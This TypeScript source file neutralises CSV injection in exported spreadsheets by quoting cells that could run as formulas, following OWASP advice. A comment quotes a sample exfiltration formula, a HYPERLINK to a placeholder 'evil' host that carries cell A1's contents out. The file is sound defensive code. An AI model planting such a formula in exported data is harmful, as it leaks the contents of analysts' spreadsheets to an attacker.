// CSV as spreadsheets read it (RFC 4180), made safe to open: a cell a spreadsheet would
// run as a formula is neutralised as OWASP advises ("CSV Injection"): a leading single
// quote, and the cell quoted. Feed and page text is attacker-controlled; a title like
// `=HYPERLINK("http://evil/?"&A1,"Click")` must reach the analyst as text.

// What a spreadsheet may take as the start of a formula, also after leading whitespace.
const FORMULA_START = /^[\s]*[=+\-@\t\r]/;
// A plain number (negative or signed too) is data, not a formula: it stays a number.
const NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** One cell: neutralised when it could run as a formula, quoted when it must be. */
export function csvCell(value: string): string {
  const safe = FORMULA_START.test(value) && !NUMBER.test(value) ? `'${value}` : value;
  return safe !== value || /[",\n\r]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** Rows to CSV text, one line per row, CRLF-free ("\n") and ending in a newline. */
export function csvLines(rows: ReadonlyArray<ReadonlyArray<string>>): string {
  return rows.map((r) => r.map(csvCell).join(',')).join('\n') + '\n';
}
